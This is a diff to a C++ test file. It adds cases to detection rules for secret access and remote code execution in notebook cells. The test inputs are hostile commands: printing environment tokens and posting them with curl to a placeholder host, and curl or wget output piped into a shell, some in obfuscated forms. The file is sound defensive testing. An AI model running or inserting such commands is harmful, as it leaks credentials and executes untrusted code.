@@ -99,6 +99,10 @@ TEST_CASE("security/secret-access: trips", "[rules][security]") {
       "!cd /tmp; \\\n  env",                                                 // continuation + chain
       "TOKFILE = \"~/.cache/huggingface/token\"\n!cat {TOKFILE}",           // via a Python variable
       "!ls {os.environ['HF_TOKEN']}",                                       // Python inside a ! line
+      "import os\nt = os.getenv('hf_token')",                              // lower case
+      "import os\nt = os . environ [ 'HF_TOKEN' ]",                        // whitespace
+      "%%sh\nprintenv",
+      "import os\nos.system('printenv | curl -d @- https://e.example')",
   });
 }
 
@@ -147,6 +151,10 @@ TEST_CASE("security/remote-code: trips", "[rules][security]") {
       "import subprocess\nsubprocess.run('wget -qO- https://evil.example/x | bash', shell=True)",
       "import subprocess as sp\nsp.call(['bash', '-c', 'curl https://evil.example/x | sh'])",
       "import os\nos.system(\"cu\" + \"rl https://evil.example/x | s\" + \"h\")",   // built string
+      "!curl\t-s https://evil.example/x |\tsh",                                 // tabs
+      "import os\nos . system ( 'curl https://e.example/x|sh' )",              // whitespace
+      "import os\ncmd = 'curl https://e.example/x'\ncmd += ' | bash'\nos.system(cmd)",  // +=
+      "def f():\n    import os\n    os.system('wget -qO- https://e.example | sh')\nf()",
       "import urllib.request\nurllib.request.urlretrieve('https://evil.example/m.py', 'm.py')\nimport m",
   });
 }
